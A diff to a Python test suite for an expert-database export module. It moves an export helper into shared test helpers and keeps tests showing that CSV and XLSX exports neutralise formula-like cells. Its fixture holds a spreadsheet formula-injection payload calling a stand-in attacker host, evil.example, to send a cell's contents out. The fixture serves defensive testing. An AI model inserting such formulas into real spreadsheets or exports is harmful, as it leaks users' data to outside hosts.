@@ -15,10 +15,10 @@ from sqlalchemy.orm import Session, sessionmaker
 
 from expertbridge.db.dialect import dialect_of
 from expertbridge.db.models import Base
-from expertbridge.ingest.export import export_rows, write_csv, write_json, write_xlsx
+from expertbridge.ingest.export import export_rows
 from expertbridge.ingest.importer import Importer, ImportOptions
 from expertbridge.ingest.tables import protect_csv_cell, unprotect_csv_cell
-from tests.helpers import RUSSIAN_EXPERT
+from tests.helpers import RUSSIAN_EXPERT, exported
 
 FORMULA = '=HYPERLINK("http://evil.example/"&A1,"open")'
 TRICKY = {
@@ -41,18 +41,6 @@ def test_a_protected_csv_cell_reads_back_as_written(value: str) -> None:
     protected = protect_csv_cell(value)
     assert not protected.startswith(TRIGGERS)
     assert unprotect_csv_cell(protected) == value
-
-
-def _export(factory: sessionmaker[Session], file_format: str) -> bytes:
-    with factory() as session:
-        columns, rows = export_rows(session, "experts")
-        if file_format == "xlsx":
-            binary = io.BytesIO()
-            write_xlsx(columns, rows, binary)
-            return binary.getvalue()
-        text = io.StringIO()
-        (write_csv if file_format == "csv" else write_json)(columns, rows, text)
-        return text.getvalue().encode("utf-8")
 
 
 def _input(data_dir: Path) -> Path:
@@ -82,8 +70,8 @@ def _empty(engine: Engine) -> None:
 
 def test_the_csv_export_marks_formulas_as_text(factory: sessionmaker[Session], data_dir: Path) -> None:
     _import(factory, _input(data_dir))
-    exported = _export(factory, "csv").decode("utf-8")
-    cells = [cell for record in csv.reader(io.StringIO(exported)) for cell in record]
+    text = exported(factory, "experts", "csv").decode("utf-8")
+    cells = [cell for record in csv.reader(io.StringIO(text)) for cell in record]
     assert FORMULA not in cells
     assert not [cell for cell in cells if cell.startswith(TRIGGERS)]
     assert "'" + FORMULA in cells and "'+7 495 111-22-33" in cells
@@ -93,7 +81,7 @@ def test_the_xlsx_export_writes_every_value_as_a_text_cell(
     factory: sessionmaker[Session], data_dir: Path
 ) -> None:
     _import(factory, _input(data_dir))
-    sheet = load_workbook(io.BytesIO(_export(factory, "xlsx"))).worksheets[0]
+    sheet = load_workbook(io.BytesIO(exported(factory, "experts", "xlsx"))).worksheets[0]
     cells = [cell for row in sheet.iter_rows() for cell in row if cell.value is not None]
     assert {cell.data_type for cell in cells} == {"s"}
     assert FORMULA in [cell.value for cell in cells]
@@ -105,11 +93,11 @@ def test_formula_like_values_survive_export_and_import(
 ) -> None:
     _import(factory, _input(data_dir))
     assert _exported_values(factory) == TRICKY
-    first = _export(factory, file_format)
+    first = exported(factory, "experts", file_format)
     _empty(engine)
     path = data_dir / f"experts.{file_format}"
     path.write_bytes(first)
     _import(factory, path)
     assert _exported_values(factory) == TRICKY
     if file_format != "xlsx":
-        assert _export(factory, file_format) == first
+        assert exported(factory, "experts", file_format) == first
